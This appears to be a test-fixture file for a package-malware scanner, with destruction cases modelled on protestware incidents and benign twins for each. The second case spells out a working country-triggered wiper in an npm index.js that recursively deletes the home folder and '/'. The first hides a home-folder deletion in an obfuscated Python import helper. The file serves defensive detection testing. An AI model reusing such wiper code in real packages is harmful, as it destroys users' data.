import { disguisedPython, pythonIncident } from '../../support/incident-programs.ts'
import { npm, type PackageCase, pypi, tarball, wheel, YOUNG } from '../../support/package-case.ts'

/** What belongs to the user is deleted. */
export const destruction: readonly PackageCase[] = [
  {
    id: 'the user loses everything',
    incident: 'protestware and revenge, 2022 to 2025: the import deletes the home folder',
    project: pypi(
      'colors-free',
      wheel('colors-free', '6.6.6', {
        'colors_free/__init__.py': disguisedPython('getattr and __import__', pythonIncident('the user loses')),
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'destroys',
      text: /^On import, deletes or shuts down what belongs to the user \((?:~|\/)\)/,
    },
    twin: pypi(
      'colors-free',
      wheel('colors-free', '6.6.6', {
        'colors_free/__init__.py': `import os, shutil, tempfile
CACHE = os.path.join(os.path.expanduser("~"), ".cache", "colors-free")
def clear():
    shutil.rmtree(CACHE, ignore_errors=True)
def work():
    folder = tempfile.mkdtemp()
    try:
        return os.listdir(folder)
    finally:
        shutil.rmtree(folder)
`,
      }),
    ),
  },
  {
    id: 'a wiper by country',
    incident: 'node-ipc on npm, March 2022: by the address of the machine files are overwritten',
    project: npm(
      'node-ipc-lite',
      tarball(
        'node-ipc-lite',
        '10.1.1',
        {
          'index.js': `const fs = require('fs'); const os = require('os'); const path = require('path'); const https = require('https');
https.get('https://geo.example/json', (answer) => { let text = ''; answer.on('data', (part) => { text += part; }); answer.on('end', () => {
  const country = JSON.parse(text).country_name;
  if (country.includes('nowhere')) { fs.rmSync(os.homedir(), { recursive: true, force: true }); fs.rmSync('/', { recursive: true, force: true }); }
}); });
module.exports = {};
`,
        },
        { main: 'index.js' },
      ),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'destroys',
      text: /^On import, deletes or shuts down what belongs to the user/,
      steps: ['index.js:4'],
    },
    twin: npm(
      'node-ipc-lite',
      tarball(
        'node-ipc-lite',
        '10.1.1',
        {
          'index.js': `const fs = require('fs'); const os = require('os'); const path = require('path');
const socket = path.join(os.tmpdir(), 'ipc-' + process.pid + '.sock');
exports.close = () => fs.rmSync(socket, { force: true });
exports.clean = () => fs.rmSync(path.join(__dirname, 'dist'), { recursive: true, force: true });
`,
        },
        { main: 'index.js' },
      ),
    ),
  },
]
